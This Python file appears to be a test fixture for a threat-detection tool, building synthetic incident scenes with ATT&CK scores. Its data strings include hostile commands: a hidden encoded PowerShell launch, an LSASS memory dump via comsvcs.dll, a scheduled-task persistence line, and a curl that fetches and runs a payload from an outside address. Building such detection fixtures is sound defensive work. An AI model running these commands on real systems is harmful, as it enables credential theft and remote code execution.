"""Two intrusions, a doubtful scene and ordinary ones, as the screen would judge them."""

import json
from datetime import UTC, datetime, timedelta
from typing import Any

from watchfloor.base.scenes import KeyFrame, Process, Scene, Scored, VerdictName

START = datetime(2026, 3, 2, 9, 14, 7, 120000, tzinfo=UTC)
SYSTEM32 = "C:\\Windows\\System32\\"
SHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|dbgcore.DLL+6cf0"
CACHE = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache"
ENCODED = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"


def at(seconds: float) -> datetime:
    return START + timedelta(seconds=seconds)


def process(
    uid: str, pid: int, line: str, image: str, start: float, score: float, up: str = "", user: str = ""
) -> Process:
    return Process(uid, pid, image, line, at(start), score, up, user, events=40)


def key(n: int, when: float, actor: Process, action: str, thing: str, weight: float, **more: Any) -> KeyFrame:
    """A key frame; ``owner`` is the process it belongs to, which for a launch is the new one."""
    source = more.pop("source", "ws-17-Sysmon.evtx")
    owner = more.pop("owner", actor)
    raw = {
        "Event": {
            "System": {"EventRecordID": n, "Computer": "ws-17"},
            "EventData": {"Image": actor.image, "Target": thing},
        }
    }
    return KeyFrame(
        event_id=f"{source}#{n}",
        time=at(when),
        actor=actor.image,
        action=action,
        object=thing,
        weight=weight,
        process_uid=owner.uid,
        raw=more.pop("raw", json.dumps(raw)),
        **more,
    )


def _macro_frames_a(
    dump: Process, dump_line: str, odd: tuple[str, ...], ps: Process, word: Process
) -> tuple[KeyFrame, ...]:
    return (
        key(
            1188,
            24.3,
            word,
            "process.launch",
            ps.command_line,
            0.27,
            owner=ps,
            score=0.94,
            features=odd,
            features_zh=("由 WINWORD.EXE 启动", "命令行看似随机字符", "命令行中的“-enc”"),
            techniques=("T1059.001",),
            detail="process.working_directory: C:\\Users\\lena\\Documents\nprocess.integrity: Medium",
        ),
        key(
            1193,
            26.1,
            ps,
            "network.connect",
            "185.199.110.42:443",
            0.09,
            score=0.71,
            techniques=("T1071.001",),
            features=("powershell.exe talks to a public address",),
        ),
        key(
            1201,
            31.9,
            ps,
            "file.create",
            "C:\\ProgramData\\od.exe",
            0.12,
            score=0.78,
            techniques=("T1105",),
            features=("file type of od.exe", "powershell.exe acts in programdata"),
        ),
        key(
            1240,
            96.0,
            ps,
            "process.launch",
            dump_line,
            0.21,
            owner=dump,
            score=0.98,
            techniques=("T1003.001", "T1218.011"),
            features=("“minidump”", "“comsvcs.dll”"),
            detail="process.integrity: System\nactor.user.name: NT AUTHORITY\\SYSTEM",
        ),
    )


def _macro_frames_b(dump: Process, ps: Process, task: Process, task_line: str) -> tuple[KeyFrame, ...]:
    return (
        key(
            1244,
            96.4,
            dump,
            "process.open",
            SYSTEM32 + "lsass.exe",
            0.17,
            score=0.99,
            repeats=14,
            techniques=("T1003.001",),
            features=("access 0x1fffff on lsass.exe",),
            detail="actual_permissions: 0x1fffff\nstatus_detail: " + TRACE,
        ),
        key(
            1310,
            4210.0,
            ps,
            "process.launch",
            task_line,
            0.11,
            owner=task,
            score=0.9,
            techniques=("T1053.005",),
            features=("“/create”", "“onlogon”"),
        ),
        key(
            1312,
            4210.6,
            task,
            "registry.value",
            CACHE + "\\Tree\\OneDrive Update\\SD = Binary Data",
            0.03,
            score=0.66,
            techniques=("T1053.005",),
        ),
    )


def macro() -> Scene:
    """A document's macro runs PowerShell, reads LSASS and leaves a scheduled task."""
    lena, office = "CORP\\lena", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    word = process(
        "w", 4120, f'"{office}" /n "C:\\Users\\lena\\Downloads\\Invoice 2291.docm"', office, 0, 0.83, "e", lena
    )
    ps = process("p", 5532, f"powershell.exe -nop -w hidden -enc {ENCODED}", SHELL, 24.3, 0.97, "w", lena)
    dump_line = "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 688 C:\\ProgramData\\l.dmp full"
    dump = process("d", 6012, dump_line, SYSTEM32 + "rundll32.exe", 96, 0.99, "p", "NT AUTHORITY\\SYSTEM")
    task_line = 'schtasks /create /tn "OneDrive Update" /tr "C:\\ProgramData\\od.exe" /sc onlogon /ru SYSTEM'
    task = process("t", 6300, task_line, SYSTEM32 + "schtasks.exe", 4210, 0.91, "p", "NT AUTHORITY\\SYSTEM")
    quiet = [
        process(f"q{i}", 7000 + 4 * i, f"{name} /update", SYSTEM32 + name, 3 + i, 0.02, "w" if i % 3 else "e", lena)
        for i, name in enumerate(["splwow64.exe", "conhost.exe", "ctfmon.exe", "OneDrive.exe", "Teams.exe"] * 5)
    ]
    explorer = process("e", 3300, "C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe", -3600, 0.05, "", lena)
    odd = ("started by WINWORD.EXE", "unusually random command line", "“-enc”")
    frames = _macro_frames_a(dump, dump_line, odd, ps, word) + _macro_frames_b(dump, ps, task, task_line)
    return scene(
        "ws-17/w",
        "ws-17-Sysmon.evtx",
        "ws-17",
        (explorer, word, ps, dump, task, *quiet),
        word,
        frames,
        "malicious",
        0.973,
        {"TA0002": 0.98, "TA0006": 0.96, "TA0003": 0.9, "TA0005": 0.71, "TA0011": 0.64},
        {"T1059.001": 0.97, "T1003.001": 0.95, "T1053.005": 0.9, "T1105": 0.61, "T1218.011": 0.48},
    )


def _web_shell_frames(
    audit: dict[str, str], curl: Process, php: Process, run: Process, sh: Process
) -> tuple[KeyFrame, ...]:
    return (
        key(
            401,
            7041,
            php,
            "process.launch",
            sh.command_line,
            0.31,
            owner=sh,
            score=0.9,
            techniques=("T1505.003", "T1059.004"),
            features=("started by php-fpm8.2",),
            **audit,
        ),
        key(409, 7043, sh, "file.read", "/etc/passwd", 0.08, score=0.6, techniques=("T1087.001",), **audit),
        key(431, 7090, curl, "network.connect", "203.0.113.9:80", 0.16, score=0.8, techniques=("T1105",), **audit),
        key(
            436,
            7101,
            sh,
            "process.launch",
            run.command_line,
            0.28,
            owner=run,
            score=0.92,
            techniques=("T1059.004",),
            features=("object's folder: tmp", "hidden file"),
            raw='type=EXECVE msg=audit(1772442668.120:436): argc=2 a0="/tmp/.x" a1="-d"',
            **audit,
        ),
        key(
            440,
            7103,
            run,
            "file.modify",
            "/var/www/.ssh/authorized_keys",
            0.17,
            score=0.85,
            techniques=("T1098.004",),
            repeats=2,
            **audit,
        ),
    )


def web_shell() -> Scene:
    """A web server runs a shell, which looks round, fetches a tool and adds a key."""
    www = "www-data"
    php = process("wp", 811, "php-fpm: pool www", "/usr/sbin/php-fpm8.2", 7000, 0.77, "", www)
    sh = process("ws", 9001, "sh -c id; uname -a; cat /etc/passwd", "/usr/bin/dash", 7041, 0.9, "wp", www)
    curl = process("wc", 9010, "curl -fsSL http://203.0.113.9/x -o /tmp/.x", "/usr/bin/curl", 7090, 0.88, "ws", www)
    run = process("wx", 9014, "/tmp/.x -d", "/tmp/.x", 7101, 0.93, "ws", www)
    audit = {"source": "web-02/audit.log"}
    frames = _web_shell_frames(audit, curl, php, run, sh)
    return scene(
        "web-02/wp",
        "web-02/audit.log",
        "web-02",
        (php, sh, curl, run),
        php,
        frames,
        "malicious",
        0.931,
        {"TA0003": 0.93, "TA0002": 0.9, "TA0007": 0.6, "TA0011": 0.7},
        {"T1505.003": 0.91, "T1059.004": 0.8, "T1105": 0.66},
    )


def doubtful() -> Scene:
    admin = process(
        "a", 2210, 'cmd.exe /c net group "Domain Admins" /domain', SYSTEM32 + "cmd.exe", -900, 0.62, "", "CORP\\it-ops"
    )
    frames = (
        key(
            77,
            -899,
            admin,
            "process.launch",
            'net group "Domain Admins" /domain',
            0.6,
            score=0.63,
            techniques=("T1069.002",),
            source="dc-01-Security.evtx",
        ),
    )
    return scene(
        "dc-01/a",
        "dc-01-Security.evtx",
        "dc-01",
        (admin,),
        admin,
        frames,
        "suspicious",
        0.58,
        {"TA0007": 0.66},
        {"T1069.002": 0.61},
    )


def ordinary(n: int = 0) -> Scene:
    app = process(
        f"b{n}", 900 + n, "chrome.exe --type=renderer", "C:\\Program Files\\Google\\Chrome\\chrome.exe", 60.0 * n, 0.02
    )
    return scene(f"ws-2{n % 9}/b{n}", "fleet.jsonl", f"ws-2{n % 9}", (app,), app, (), "benign", 0.02, {}, {})


def scene(
    scene_id: str,
    source: str,
    host: str,
    processes: tuple[Process, ...],
    root: Process,
    frames: tuple[KeyFrame, ...],
    verdict: VerdictName,
    score: float,
    tactics: dict[str, float],
    techniques: dict[str, float],
) -> Scene:
    times = [f.time for f in frames if f.time] + [root.start or START]
    return Scene(
        scene_id,
        source,
        host,
        root,
        min(times),
        max(times),
        40 * len(processes),
        30 * len(processes),
        verdict,
        score,
        tuple(Scored(t, s) for t, s in tactics.items()),
        tuple(Scored(t, s) for t, s in techniques.items()),
        processes,
        frames,
        (),
    )
